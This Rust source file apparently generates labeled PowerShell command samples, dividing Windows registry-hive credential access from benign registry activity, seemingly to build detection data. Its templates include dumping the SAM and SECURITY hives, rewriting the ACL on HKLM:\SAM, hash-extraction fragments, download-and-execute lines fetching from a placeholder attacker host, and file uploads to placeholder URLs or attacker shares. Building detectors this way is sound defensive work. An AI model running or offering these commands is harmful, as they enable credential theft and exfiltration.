//! PowerShell, .NET, Win32 and WMI ways to the hives, and to everything else.

use crate::generate::family::{Family, Kind::Cmd, Kind::Ps};

const PROVIDER: &[&str] = &[
    concat!(
        r"«Get-ItemProperty¦gp¦Get-ChildItem¦gci¦dir¦ls¦Get-Item¦gi» «-Path ¦-LiteralPath ¦",
        r"»{drive}{key}« -Recurse»« -ErrorAction SilentlyContinue»",
    ),
    r"«dir¦dir¦dir¦ls¦gci» {drive}{key}« -Recurse¦ -r¦ -rec¦ -Name¦ | fl¦ | select Property»",
    concat!(
        r"«Get-ChildItem¦gci» -Path '{drive}{key}' ⟦«-Recurse»¦«-Force»¦«-ea 0»⟧« | «Get-ItemProperty¦",
        r"ForEach-Object { Get-ItemProperty $_.PSPath }¦% { $_.Name }¦Select-Object -ExpandProperty ",
        r"Name¦Out-File {psout}¦Format-List»»",
    ),
    r#"(«Get-ItemProperty¦gp» «"{drive}{key}"¦'{drive}{key}'»).«F¦V¦'(default)'¦Version»"#,
    r"Get-ItemPropertyValue -Path {drive}{key} -Name «F¦V¦Default»",
    concat!(
        r#"$key = "{drive}{key}"; Get-ChildItem $key« -Recurse» | «% { "#,
        r"[BitConverter]::ToString($_.GetValue('«F¦V»')) }¦ForEach-Object { $_.GetValue('V') }»",
    ),
    r"«cd¦Set-Location¦Push-Location» {drive}{key}; «ls¦dir¦Get-ChildItem¦gci -rec»",
    r"Test-Path {drive}{key}; Get-Item {drive}{key} | «Select -Expand Property¦fl *»",
    r"Copy-Item -Path {drive}{key} -Destination HKCU:\{stem} -Recurse",
    concat!(
        r"Get-Acl «-Path »{drive}{key} | «fl¦Format-List¦Select -ExpandProperty Access»; Get-ChildItem ",
        r"{drive}{key}",
    ),
    concat!(
        r"$acl = Get-Acl {drive}{key}; $acl.SetAccessRule((New-Object ",
        r"System.Security.AccessControl.RegistryAccessRule('{user}','«FullControl¦",
        r"ReadKey»','Allow'))); Set-Acl {drive}{key} $acl; gci {drive}{key}",
    ),
    r"foreach ($k in Get-ChildItem {drive}{key}) { $k.«GetValueNames()¦GetValue('V')¦Name» }",
    r"New-PSDrive -Name {stem.1} -PSProvider Registry -Root HKEY_LOCAL_MACHINE\{key}; Get-ChildItem {stem.1}:\",
];
const DRIVE: &str = concat!(
    r"«HKLM:\¦hklm:\¦HKLM:¦Registry::HKEY_LOCAL_MACHINE\¦",
    r"Microsoft.PowerShell.Core\Registry::HKEY_LOCAL_MACHINE\¦HKLM:/¦registry::hklm\»",
);

const CALLREG: &[&str] = &[
    concat!(
        r"«&¦.¦iex¦Start-Process -FilePath¦start» «reg¦reg.exe¦'reg.exe'¦C:\Windows\System32\reg.exe» ",
        r"«save¦export» {k} {psout}« /y»",
    ),
    concat!(
        r#"Start-Process «reg¦reg.exe¦"reg.exe"» -ArgumentList «'save {k} {psout} /y'¦"#,
        r#""save","{k}","{psout}"¦@('export','{k}','{dir}\{stem}.reg')» ⟦«-NoNewWindow»¦«-Wait»¦"#,
        r"«-WindowStyle Hidden»¦«-Verb RunAs»⟧",
    ),
    r"reg «save¦export» {k} {psout}; reg «save¦export» {k2} {psout}« | Out-Null»",
    concat!(
        r"'{n1}','{n2}','{n3}' | «% { reg save HKLM\$_ {psdir}\$_.{anyext} }¦ForEach-Object { ",
        r#"reg.exe save «HKLM\$($_)¦"HKLM\$($_)"» «"{psdir}\$($_)"¦{psdir}\$($_)» /y }»"#,
    ),
    concat!(
        r#"foreach ($h in «@('{n1}','{n2}','{n3}')¦'{n1}','{n2}'¦"{n1}","{n3}"») { «reg save HKLM\$h "#,
        r#"$env:TEMP\$h¦& reg.exe save «"HKLM\$h"¦HKLM\$h» «"{psdir}\$h.{anyext}"¦{psdir}\$h.{anyext}»¦cmd /c "reg save "#,
        r#"hklm\$h {dir}\$h"» }"#,
    ),
    concat!(
        r#"$hives = «@("{n1}","{n2}","{n3}")¦'{n1} {n2}' -split ' '»⏎foreach ($hive in $hives) {⏎    "#,
        r#"reg save "HKLM\$hive" "{psdir}\$hive.{anyext}" /y⏎}"#,
    ),
    r"Invoke-Command -ComputerName {host} -ScriptBlock { reg «save¦export» {k} {outfile} }« -Credential $cred»",
    concat!(
        r"Invoke-Command «-Session $s¦-ComputerName {host}¦-cn {host}» {«&» cmd /c reg save {k} ",
        r"{outfile}⏎ copy {outfile} \\{attacker}\{share} }",
    ),
    concat!(
        r#"function {fname}($h) { reg save «"HKLM\$h"¦HKLM\$h» «"$env:TEMP\$h"¦C:\Windows\Temp\$h» }; "#,
        r"{fname} {n1}; {fname} {n2}",
    ),
    r#"$a = '{n1}'; $b = «'HKLM\'¦"hklm\"»+$a; reg save $b {psout}"#,
    r#"Enter-PSSession -ComputerName {host}⏎reg save {k} {outfile}⏎exit"#,
    r"icm {host} {«param($p) »reg query {kq}« /s»}",
    r"Start-Job { reg save {k} {psout} } | Wait-Job",
    concat!(
        r"Register-ScheduledTask -TaskName {stem} -Action (New-ScheduledTaskAction -Execute 'reg.exe' ",
        r"-Argument 'save {k} {outfile} /y') -User SYSTEM; Start-ScheduledTask {stem}",
    ),
];

const DOTNET: &[&str] = &[
    concat!(
        r"$k = [Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('{key}'«, $true»)«; ",
        r"$k.GetSubKeyNames()¦; $k.GetValue('V')»",
    ),
    concat!(
        r"[Microsoft.Win32.RegistryKey]::OpenBaseKey('LocalMachine','«Registry64¦",
        r#"Default»').OpenSubKey("{key}").«GetSubKeyNames()¦GetValueNames()¦GetValue("F")»"#,
    ),
    concat!(
        r"$reg = [Microsoft.Win32.RegistryKey]::OpenRemoteBaseKey('LocalMachine', '{host}')⏎",
        r"$reg.OpenSubKey('{key}').GetSubKeyNames()",
    ),
    r#"[Microsoft.Win32.Registry]::GetValue("HKEY_LOCAL_MACHINE\{key}", "«F¦V¦»", $null)"#,
    concat!(
        r#"$rk = [Microsoft.Win32.Registry]::LocalMachine.OpenSubKey("{key}", "#,
        r"[Microsoft.Win32.RegistryKeyPermissionCheck]::ReadWriteSubTree, ",
        r"[System.Security.AccessControl.RegistryRights]::«ChangePermissions¦TakeOwnership¦ReadKey»)",
    ),
    r"([wmiclass]'root\default:StdRegProv').«EnumKey¦EnumValues»(2147483650, '{key}')",
    concat!(
        r"(Get-WmiObject -List -Namespace root\default -ComputerName {host} ",
        r"StdRegProv).«GetBinaryValue¦EnumKey»(2147483650,'{key}'«,'V'»)",
    ),
    concat!(
        r"Invoke-CimMethod -Namespace root/default -ClassName StdRegProv -MethodName «EnumKey¦",
        r"EnumValues¦GetBinaryValue» -Arguments @{hDefKey=[uint32]2147483650; sSubKeyName='{key}'}",
    ),
    concat!(
        r#"$r = Get-WmiObject -List "StdRegProv" -Namespace "root\default"⏎$r.EnumKey(«$HKLM¦"#,
        r#"0x80000002¦2147483650», "{key}").sNames"#,
    ),
    concat!(
        r"[Win32.Advapi]::RegOpenKeyEx(0x80000002, '{key}', 0, 0x20019, [ref]$h); ",
        r"[Win32.Advapi]::«RegSaveKey¦RegSaveKeyEx»($h, {psout}, 0)",
    ),
    concat!(
        r#"Add-Type -Name {alnum4} -Namespace {alnum5} -MemberDefinition '[DllImport("advapi32.dll")] "#,
        r"public static extern int «RegSaveKeyEx(IntPtr h, string f, IntPtr s, int fl)¦",
        r"RegSaveKey(IntPtr h, string f, IntPtr s)»;'; $h = ",
        r"[Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('{key}').Handle; ",
        r"[{alnum5}.{alnum4}]::RegSaveKeyEx($h, {psout}, 0, 1)",
    ),
    concat!(
        r#"RegOpenKeyEx(HKEY_LOCAL_MACHINE, «L»«T»«"¦(»{key}«"¦)», REG_OPTION_BACKUP_RESTORE, "#,
        r#"KEY_READ, &hKey); RegSaveKey«Ex»«A¦W¦»(hKey, «L»«"»{stem}«"», NULL);"#,
    ),
];

const READFILE: &[&str] = &[
    r#"Copy-Item «-Path ¦-LiteralPath ¦»«"{f}"¦'{f}'¦{f}» «-Destination »{psout}« -Force»"#,
    r"«cp¦copy¦cpi¦copy-item» «'{f}'¦{f}» {psout}",
    r#"[System.IO.File]::«Copy»(«'{f}'¦"{f}"», «'{outfile}'¦"{psdir}\{outname}"»)"#,
    r"[IO.File]::ReadAllBytes('{f}')« | Set-Content {psout} -Encoding Byte¦.Length»",
    concat!(
        r#"Get-Content «-Path »«'{f}'¦"{f}"» «-Encoding Byte¦-AsByteStream -Raw¦-Raw» | «Set-Content "#,
        r"{psout}¦Out-File {psout}»",
    ),
    concat!(
        r"$b = [Convert]::ToBase64String([IO.File]::ReadAllBytes('{f}')); «Invoke-RestMethod -Uri ",
        r"{url} -Method Post -Body $b¦Set-Content {psout} $b¦Write-Output $b¦(New-Object ",
        r"Net.WebClient).UploadString('{url}',$b)»",
    ),
    r"(New-Object «System.»Net.WebClient).UploadFile('{url}', «'POST', »'{f}')",
    r"Invoke-NinjaCopy ⟦-Path «'{f}'¦{f}»¦-LocalDestination {psout}¦«-ComputerName {host}»⟧",
    r#"Invoke-NinjaCopy -Path "{f}" -ComputerName {host} -LocalDestination "{psdir}\{outname}""#,
    r"Copy-VSS -DestinationDir {psdir} -Path '{f}'",
    r"Compress-Archive -Path '{f}' -DestinationPath {psdir}\{stem}.zip",
    r"Copy-RawItem -Path '{f}' -Destination {psout}",
    concat!(
        r"$fs = [System.IO.File]::Open('{f}','Open','Read','ReadWrite'); $out = ",
        r"[IO.File]::Create('{outfile}'); $fs.CopyTo($out)",
    ),
    r"Get-ForensicFileRecord -Path '{f}' | Copy-ForensicFile -Destination {psout}",
    r#"Start-BitsTransfer -Source «'{f}'¦"{f}"» -Destination {psout}"#,
    r"Invoke-Command -ComputerName {host} { Copy-Item '{f}' '{outfile}' }",
    r"Copy-Item -FromSession $s '{f}' -Destination {psdir}",
    r"Move-Item '{f}' {psout}",
    r#"& cmd /c «"»copy {f} {outfile}«"»"#,
    r#"robocopy (Split-Path "{f}") {psdir} (Split-Path "{f}" -Leaf) /b"#,
    r"New-Object IO.FileStream('{f}', [IO.FileMode]::Open, [IO.FileAccess]::Read)",
    r"ii '{f}'; cat '{f}' | Format-Hex",
];

const NAMED: &[&str] = &[
    r"{fn}",
    r"{fn}« | Out-File «-FilePath »{psout}»",
    r"Import-Module .\{fn}.ps1; {fn}",
    r". .\{fn}.ps1; {fn}« -Verbose»",
    r"{load}; {fn}",
    r"{load}⏎{fn}",
    r"iex ((New-Object Net.WebClient).DownloadString('http://{attacker}«:{port}»/{fn}.ps1')); {fn}",
    r"Invoke-Command -ComputerName {host} -ScriptBlock ${function:{fn}}",
    r"Invoke-Command -Session $sess -FilePath .\{fn}.ps1",
    concat!(
        r"Invoke-Command -ScriptBlock ${function:{fn}} -ComputerName «(Get-Content hosts.txt)¦{host}»« ",
        r"-Credential $cred»",
    ),
    r"«IEX¦iex» (iwr 'https://{site}/{fn}.ps1' -UseBasicParsing); {fn}",
    r"function {fn} { [CmdletBinding()] param()«⏎# …⏎¦ ... »} {fn}",
    r"$r = {fn}; $r | Format-Table",
    r#"powershell.exe -ep bypass -c «"»Import-Module {psdir}\{fn}.ps1;{fn}«"»"#,
    r"«PS > ¦»ipmo {fn}; {fn}« -DebugPrivilege»",
    r"cmd /c powershell -exec bypass -f {dir}\{fn}.ps1",
    r"Set-ExecutionPolicy Bypass -Scope Process -Force; .\{fn}.ps1",
    r"{fn} -ComputerName {host}",
];
const LOAD: &str = concat!(
    r"«IEX (New-Object Net.Webclient).DownloadString('{url}')¦iex(iwr {url} -UseBasicParsing)¦. ",
    r".\{stem}.ps1¦Import-Module .\{stem}.psm1¦. { iwr -useb {url} } | iex¦ipmo {psdir}\{stem}.ps1¦",
    r"$ExecutionContext.InvokeCommand.InvokeScript((irm {url}))»",
);

const SOURCE: &[&str] = &[
    "{s}",
    "{s}⏎{s}",
    "function {fn} {⏎    {s}⏎    {s}⏎}",
    "function {fn}(«$bootkey¦$key¦$u¦»)⏎{⏎    {s}⏎}",
    "$ErrorActionPreference = 'Stop'⏎{s}⏎{n}",
    "{n}⏎{s}⏎{n}",
    "{s}« | Out-String¦ | Sort-Object¦»",
    "#######{first}#######⏎{s}⏎#######{last}#######",
];

const N: &str = concat!(
    r"«$sid = [System.Security.Principal.WindowsIdentity]::GetCurrent().User¦Write-Verbose 'step ",
    r"{1..9}'¦$i = {0..9}¦[byte[]]$b = 0..{9..255}¦$md5 = ",
    r"[System.Security.Cryptography.MD5]::Create()¦if (-not $isAdmin) { Write-Warning 'Run as ",
    r"Administrator' }¦$result = @()¦return $result¦[Array]::Copy($src, $dst, {4..64})¦$enc = ",
    r"[System.Text.Encoding]::Unicode»",
);

pub const FAMILIES: &[Family] = &[
    Family::act("ps-source", "powershell-hive-source", "powershell-other-source", Ps, SOURCE).slots(&[("fn", concat!(
            "«Get-HBootKey¦Get-UserKeys¦Get-UserHashes¦DumpHashes¦Get-UserName¦ElevatePrivs¦{alnum6}¦",
            "Read-Hive¦Get-Keys»",
        )), ("n", N), ("s", concat!(
            r"«$k = [Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SAM\SAM\Domains\Account'«, ",
            r"$true»)¦$k = Get-Item HKLM:\SAM\SAM\Domains\Account;¦Get-ChildItem ",
            r"HKLM:\SAM\SAM\Domains\Account\Users | where {$_.PSChildName -match '^[0-9A-Fa-f]{8}$'} | ",
            r"% { Add-Member -InputObject $_ -MemberType NoteProperty -Name V -Value ",
            r"($_.GetValue('V')) }¦$cF = $k.GetValue('F') # HKLM:\SAM\SAM\Domains\Account¦$users = ",
            r"Get-ChildItem 'HKLM:\SAM\SAM\Domains\Account\Users\Names'¦$rule = New-Object ",
            r"System.Security.AccessControl.RegistryAccessRule($user, 'FullControl', ",
            r"'ContainerInherit', 'None', 'Allow'); $key = ",
            r"[Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SAM\SAM\Domains', ",
            r"[Microsoft.Win32.RegistryKeyPermissionCheck]::ReadWriteSubTree, ",
            r"[System.Security.AccessControl.RegistryRights]::ChangePermissions)¦$acl = Get-Acl ",
            r"'HKLM:\SAM\SAM'; $acl.SetAccessRule($rule); $acl | Set-Acl -Path 'HKLM:\SAM\SAM'¦$path = ",
            r"'HKLM:\SECURITY\Policy\Secrets'; foreach ($s in Get-ChildItem $path) { $s.Name }¦",
            r"Get-UserKeys | % { $hashes = Get-UserHashes $_ $hBootKey; '{0}:{1}:{2}:{3}:::' -f ",
            r"($_.UserName,$_.Rid,$hashes[0],$hashes[1]) }¦$hBootKey = Get-HBootKey $bootKey; ",
            r"Get-UserKeys | ForEach-Object { Get-UserHashes $_ $hBootKey }»",
        ))]).weight(8),
    Family::other("ps-source", "powershell-other-source", Ps, SOURCE).slots(&[("fn", "«Get-RunKeys¦Get-Services¦Get-UserName¦Read-Config¦ElevatePrivs¦{alnum6}¦Get-Keys¦Get-Settings»"), ("n", N), ("s", concat!(
            r"«{n}¦$k = [Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('{otherkey}'«, $true»)¦$k ",
            r"= Get-Item HKLM:\{otherkey};¦Get-ChildItem HKLM:\{softkey} | where {$_.PSChildName ",
            r"-match '^{[0-9A-Fa-f]{8}'} | % { $_.GetValue('DisplayName') }¦$v = $k.GetValue('F') # ",
            r"HKLM:\{softkey}¦$rule = New-Object ",
            r"System.Security.AccessControl.RegistryAccessRule($user, 'FullControl', ",
            r"'ContainerInherit', 'None', 'Allow'); $key = ",
            r"[Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('{softkey}', ",
            r"[Microsoft.Win32.RegistryKeyPermissionCheck]::ReadWriteSubTree, ",
            r"[System.Security.AccessControl.RegistryRights]::ChangePermissions)¦$acl = Get-Acl ",
            r"'HKLM:\{syskey}'; $acl.SetAccessRule($rule); $acl | Set-Acl -Path 'HKLM:\{syskey}'¦$path ",
            r"= 'HKLM:\{syskey}'; foreach ($s in Get-ChildItem $path) { $s.Name }¦Get-ADUser -Filter * ",
            r"| % { '{0}:{1}' -f ($_.SamAccountName,$_.SID) }¦$hash = Get-FileHash $file -Algorithm ",
            r"SHA256; '{0}:{1}' -f ($hash.Path,$hash.Hash)»",
        ))]).weight(10),
    Family::act("ps-provider", "powershell-registry-provider", "powershell-registry-other", Ps, PROVIDER).slots(&[("drive", DRIVE), ("key", "«{secret}¦{inner}¦{inner}»")]).weight(20),
    Family::other("ps-provider", "powershell-registry-other", Ps, PROVIDER).slots(&[("drive", "«{d2}¦{d2}¦{d2}¦HKCU:\\»"), ("d2", DRIVE), ("key", "{otherkey}")]).weight(25),
    Family::act("ps-reg", "powershell-calls-reg", "powershell-calls-reg-other", Ps, CALLREG).slots(&[("k", r"{locallm}\{whole}"), ("kq", r"{locallm}\«{secret}¦{inner}»"), ("k2", r"{locallm}\«{whole}¦{otherkey}»"), ("n1", "«sam¦SAM¦security¦SECURITY»"), ("n2", "«system¦SYSTEM»"), ("n3", "{whole}"), ("fname", "«Save-It¦f¦Get-H¦dump¦sv¦Invoke-{alnum5}»")]).weight(25),
    Family::other("ps-reg", "powershell-calls-reg-other", Ps, CALLREG).slots(&[("k", "{otherreg}"), ("kq", r"«{locallm}\{otherkey}¦{locallm}\SYSTEM»"), ("k2", "{otherreg}"), ("n1", "«software¦SOFTWARE¦hardware»"), ("n2", r"«Software\{vendor}¦COMPONENTS»"), ("n3", r"{otherkey}"), ("fname", "«Save-It¦f¦Get-H¦dump¦sv¦Invoke-{alnum5}»")]).weight(20),
    Family::act("ps-dotnet", "dotnet-hive-access", "dotnet-other-key", Ps, DOTNET).slots(&[("key", "«{secret}¦{inner}¦{inner}»")]).weight(14),
    Family::other("ps-dotnet", "dotnet-other-key", Ps, DOTNET).slots(&[("key", "{otherkey}")]).weight(14),
    Family::act("ps-files", "powershell-hive-file", "powershell-other-file", Ps, READFILE).slots(&[("f", "{pshive}")]).weight(18),
    Family::other("ps-files", "powershell-other-file", Ps, READFILE).slots(&[("f", "{psother}")]).weight(22),
    Family::act("ps-named", "powershell-sam-scripts", "powershell-other-scripts", Ps, NAMED).slots(&[("load", LOAD), ("fn", concat!(
            "«Get-PassHashes¦Invoke-PowerDump¦PowerDump¦Get-PassHashes¦Invoke-PowerDump¦",
            "invoke-powerdump¦get-passhashes¦Invoke-DumpSAM¦Invoke-SAMDump¦Get-SamHashes¦",
            "Invoke-SamDump¦Get-LocalHashes¦Invoke-NTLMExtract¦Out-SAMHashes¦Dump-SAM¦Get-RegHashes¦",
            "Invoke-HiveNightmare¦Invoke-SeriousSam¦Get-HiveNightmare¦Get-SAMHive¦Export-SAMHive»",
        ))]).weight(20),
    Family::other("ps-named", "powershell-other-scripts", Ps, NAMED).slots(&[("load", LOAD), ("fn", concat!(
            "«Invoke-Kerberoast¦Invoke-BloodHound¦Get-NetUser¦Invoke-Portscan¦Get-GPPPassword¦",
            "Invoke-PowerShellTcp¦PowerUp¦Invoke-AllChecks¦Get-VaultCredential¦Invoke-DCSync¦",
            "Get-LSASecret¦Invoke-Inveigh¦Out-Minidump¦Get-Keystrokes¦Invoke-UserHunter¦",
            "Find-LocalAdminAccess¦Get-WLAN-Keys¦Get-Information¦Invoke-TokenManipulation¦",
            "Get-DomainUser¦Invoke-SMBExec¦Get-SQLInstanceDomain¦Get-Inventory¦Invoke-Backup¦",
            "Test-Health¦Get-ChromeDump¦Get-ADReplAccount¦Get-PassHints¦Get-PassNotExp¦",
            "Get-SAMAccountName¦Get-SampleData¦Get-SamPasswordPolicy¦Get-SAMReplicationInfo¦",
            "Invoke-SamplePlan¦Get-SamlAssertion¦Get-CachedRDPConnection¦Invoke-PowerThIEf¦Invoke-Dump¦",
            "Invoke-PSInject¦New-SamlToken»",
        ))]).weight(25),
    Family::act("ps-launch", "powershell-exe-registry", "powershell-exe-other", Cmd, PSEXE).slots(&[("c", concat!(
            r"«reg save {locallm}\{whole} {outfile}¦Get-ItemProperty HKLM:\«{secret}¦{inner}»¦gci ",
            r"HKLM:\{inner} -Recurse¦Copy-Item {pshive} {outfile}¦",
            r"[IO.File]::Copy(''{shadowhive}'',''{outfile}'')¦Invoke-PowerDump¦Get-PassHashes»",
        ))]).weight(14),
    Family::other("ps-launch", "powershell-exe-other", Cmd, PSEXE).slots(&[("c", concat!(
            r"«reg save {otherreg} {outfile}¦Get-ItemProperty HKLM:\{otherkey}¦gci HKLM:\{otherkey} ",
            r"-Recurse¦Copy-Item {psother} {outfile}¦[IO.File]::Copy(''{otherfile}'',''{outfile}'')¦",
            r"Get-Service {svcname}¦Get-ADUser {user} -Properties SamAccountName¦Get-Process | Sort ",
            r"CPU¦Get-SmbShare»",
        ))]).weight(14),
];

const PSEXE: &[&str] = &[
    r#"{psexe} {psflags} -«c¦C¦Command¦command» "{c}""#,
    r#"{psexe} {psflags} "{c}""#,
    r#"{psexe} {psflags} "& { {c} }""#,
    r"{psexe} {psflags} -Command {c}",
    r"{psexe} {psflags} -c {c}",
    r"{psexe} {c}",
    r"echo {c} | {psexe} {psflags} -",
    r#"{psexe} {psflags} -Command "$ErrorActionPreference='SilentlyContinue'; {c}; exit 0""#,
    r#"start /b {psexe} {psflags} -c "{c}""#,
    r#"{psexe} -Version 2 {psflags} -Command "{c} | Out-Null""#,
];
